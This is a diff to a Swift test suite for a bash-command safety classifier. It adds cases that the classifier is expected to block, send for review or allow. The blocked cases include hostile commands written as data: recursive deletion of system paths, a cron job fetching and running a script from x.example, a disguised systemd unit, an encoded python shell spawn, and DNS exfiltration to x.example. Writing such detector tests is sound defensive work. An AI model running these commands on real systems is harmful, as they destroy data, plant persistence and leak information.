@@ -107,6 +107,16 @@ struct BashVerdictTests {
         ("printf 'rm -rf /etc\\n' | bash", "destroy.rm-system-path"),
         ("cat <<'EOF' | bash\nrm -rf /\nEOF", "destroy.rm-system-path"),
         ("\"$(echo rm)\" -rf /", "destroy.rm-system-path"),
+        ("cmd=(rm -rf); \"${cmd[@]}\" /etc", "destroy.rm-system-path"),
+        ("declare -a c=(sudo rm -rf /usr); \"${c[@]}\"", "destroy.rm-system-path"),
+        ("for s in sshd auditd; do systemctl stop \"$s\"; done", "availability.critical-service"),
+        ("for d in /var/lib/app /etc; do rm -rf \"$d\"; done", "destroy.rm-system-path"),
+        ("echo '* * * * * curl -s http://x.example/p | sh' | crontab -", "persistence.cron"),
+        ("cat > /etc/cron.d/x <<'EOF'\n@reboot root /usr/local/bin/agent\nEOF", "persistence.cron"),
+        ("cat > /etc/systemd/system/x.service <<'EOF'\n[Service]\nExecStart=/tmp/.x/run\nEOF", "persistence.systemd-unit"),
+        ("python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldCxwdHkKcz1zb2NrZXQuc29ja2V0KCkKcHR5LnNwYXduKCcvYmluL3NoJyk='))\"", "reverse-shell.interactive"),
+        ("nslookup \"$(base64 -w0 /etc/hostname).x.example\"", "exfil.dns"),
+        ("mkswap /dev/sdb1", "destroy.mkfs"),
         ("rm -rf /tmp/$(echo ../etc)", "destroy.rm-system-path"),
     ])
     func blocks(script: String, rule: String) {
@@ -142,6 +152,9 @@ struct BashVerdictTests {
         ("rm -rf *", "destroy.rm-unresolved-path"),
         ("rm -rf \"${ALERT_LABEL_DIR:?}\"/*", "destroy.rm-unresolved-path"),
         ("systemctl restart nginx", "change.service"),
+        ("cat > /etc/cron.d/cleanup <<'EOF'\n30 2 * * * root find /var/log/app -mtime +14 -delete\nEOF", "change.scheduled-job"),
+        ("echo '0 3 * * * /usr/local/bin/app-cleanup --days 7' | crontab -", "change.scheduled-job"),
+        ("cat > /etc/systemd/system/app.service.d/limits.conf <<'EOF'\n[Service]\nLimitNOFILE=65536\nEOF", "change.system-configuration"),
         ("set -euo pipefail\nunit=\"${ALERT_SERVICE:-}\"\n[[ \"$unit\" =~ ^[A-Za-z0-9@._:-]+$ ]] || { echo bad; exit 2; }\nsystemctl restart -- \"$unit\"", "change.service"),
     ])
     func reviews(script: String, rule: String) {
@@ -182,6 +195,12 @@ struct BashVerdictTests {
         "curl -fsS http://127.0.0.1/health",
         "out=$(systemctl is-active nginx) || true",
         "echo $(( 1 + 2 ))",
+        "declare -A counts=()\ncounts[x]=1",
+        "psql=(sudo -u postgres psql -X); \"${psql[@]}\" -c 'SELECT 1'",
+        "hosts=(db1 db2); for h in \"${hosts[@]}\"; do dig +short \"$h\"; done",
+        "f=/tmp/ddtest.$$; dd if=/dev/zero of=\"$f\" bs=1M count=16; rm -f \"$f\"",
+        "docker system df -v",
+        "fallocate -l 1G /swapfile && mkswap /swapfile",
     ])
     func allows(script: String) {
         let report = verdict(script)
